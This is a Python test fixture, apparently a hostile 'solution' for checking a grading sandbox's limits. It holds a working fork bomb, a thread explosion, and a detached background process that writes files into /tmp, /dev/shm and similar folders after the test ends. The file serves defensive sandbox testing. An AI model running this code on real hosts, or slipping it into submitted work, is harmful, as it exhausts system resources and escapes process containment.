# HOSTILE base=solution
"""Attack A20/A24: a fork bomb (every child forks again), a thread explosion, and a
background child that leaves the process group, sleeps past the end of the test and
then tries to write files.  Children give up after 20 s so that a missing limit does
not take the host down."""
import os
import threading
import time

MARK = "HOSTILE-@@NONCE@@-fork_bomb"


def _child_loop(until):
    while time.monotonic() < until:
        try:
            if os.fork() == 0:
                continue        # the new child joins the bomb
        except OSError:
            time.sleep(0.05)
    os._exit(0)


def sign(x):
    until = time.monotonic() + 20
    made = failed = 0
    for _ in range(10_000):
        try:
            pid = os.fork()
        except OSError:
            failed += 1
            if failed > 50:
                break
            continue
        if pid == 0:
            _child_loop(until)
        made += 1
    print(f"HOSTILE-NOTE forked {made} children before the limit")
    print("HOSTILE-DONE fork_bomb")
    return "WRONG"


def _background_writer():
    if os.fork() != 0:
        return
    try:
        os.setsid()
        time.sleep(3)
        for folder in (os.getcwd(), "/tmp", "/run/lock", "/var/tmp", "/dev/shm"):
            try:
                with open(os.path.join(folder, f"{MARK}-late-write"), "w") as fh:
                    fh.write("written after the test ended")
            except OSError:
                pass
    finally:
        os._exit(0)


def greet(name, loud=False):
    try:
        _background_writer()
    except OSError:
        pass
    threads = 0
    try:
        for _ in range(10_000):
            threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
            threads += 1
    except (RuntimeError, OSError):
        pass
    print(f"HOSTILE-NOTE started {threads} threads before the limit")
    return "WRONG"
